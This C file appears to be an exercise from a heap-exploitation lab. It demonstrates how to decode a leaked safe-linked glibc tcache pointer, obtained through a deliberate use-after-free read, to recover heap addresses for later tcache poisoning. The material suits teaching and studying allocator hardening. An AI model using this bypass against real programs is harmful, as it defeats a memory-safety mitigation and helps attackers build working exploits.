/*
 * safe_linking_decryption.c - recover a heap address from one leaked,
 * safe-linked tcache link.
 *
 * From 2.32 a tcache or fastbin link is stored as link = (pos >> 12) ^ next,
 * where pos is the address of the link itself.  When pos and next lie in the
 * same 4 KiB page, as two neighbouring small chunks usually do, pos >> 12 is
 * next >> 12, so link = next ^ (next >> 12).  Its top 12 bits are then
 * next's own; they decode the next 12 bits, which decode the next, and so on:
 * six rounds recover all of next from the leak alone.  The attacker learns
 * the heap's address, and with it can encode links of his own
 * (tcache_poisoning.c).
 *
 * Works on 2.32 ... 2.36; before 2.32 links are stored in the clear, and a
 * leaked link is the address already.
 */
#include "tests/techniques/technique.h"

static uintptr_t decrypt(uintptr_t link)
{
    uintptr_t next = link;
    /* LAB(tech-safe_linking_decryption) BEGIN */
    for (int round = 0; round < 6; round++)
        next = link ^ (next >> 12);
    /* LAB(tech-safe_linking_decryption) END */
    return next;
}

int main(void)
{
    technique_begin("safe_linking_decryption", "Decode a leaked safe-linked pointer without knowing where it was "
                                               "stored.");
    if (!release_has_safe_linking())
        return technique_not_here("safe-linking came with glibc 2.32; before it a link is the address itself");

    char *a, *b;
    do {
        a = arenalloc_malloc(0x18);
        b = arenalloc_malloc(0x18);
    } while ((uintptr_t)a >> 12 != (uintptr_t)b >> 12);
    say("a = %p, b = %p: two chunks of one 4 KiB page.", (void *)a, (void *)b);
    arenalloc_free(a);
    arenalloc_free(b);
    say("free(a), free(b): b's tcache link names a, stored encoded.");

    uintptr_t leak = *(uintptr_t *)b;
    say("A read after free leaks b's link: %#jx.", (uintmax_t)leak);

    uintptr_t recovered = decrypt(leak);
    say("Six rounds of next = leak ^ (next >> 12) give %#jx.", (uintmax_t)recovered);

    return technique_end(recovered == (uintptr_t)a, "the leak decoded to a's address");
}
